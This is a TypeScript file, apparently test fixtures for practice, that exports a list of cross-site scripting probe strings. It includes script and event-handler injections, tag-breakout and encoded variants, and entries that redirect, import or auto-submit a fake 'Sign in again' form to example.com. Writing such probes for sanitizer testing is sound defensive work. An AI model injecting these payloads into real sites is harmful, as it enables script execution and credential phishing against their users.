/** Probes that want a page to run a script of theirs. Written for practice; addresses are example.com's. */
export const scriptProbes: readonly string[] = [
  '<script>alert("feedback")</script>',
  '<img src=x onerror="window.probed = true">',
  '"><svg onload=alert(1)>',
  "javascript:alert('feedback')",
  '<iframe srcdoc="<script>parent.probed = true</script>"></iframe>',
  '<a href="http://example.com/probe" target="_top">click</a><meta http-equiv="refresh" content="0;url=http://example.com/probe">',
  '%3Cscript%3Ealert(%22encoded%22)%3C%2Fscript%3E',
  '&lt;script&gt;alert(&#39;entities&#39;)&lt;/script&gt;',
  'PHNjcmlwdD5hbGVydCgiYmFzZTY0Iik8L3NjcmlwdD4=',
  '<style>*{display:none}@import "http://example.com/probe.css";</style>',
  '</textarea></title></style></script><body onload=probed=1>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
  '[click me](javascript:alert(1)) ![x](http://example.com/probe.png)',
  '<form action=http://example.com/probe><input autofocus onfocus=form.submit()><button>Sign in again</button></form>',
  '\u003cdialog open\u003e<h1>Your session has ended</h1>\u003c/dialog\u003e <object data="http://example.com/probe"></object>',
]
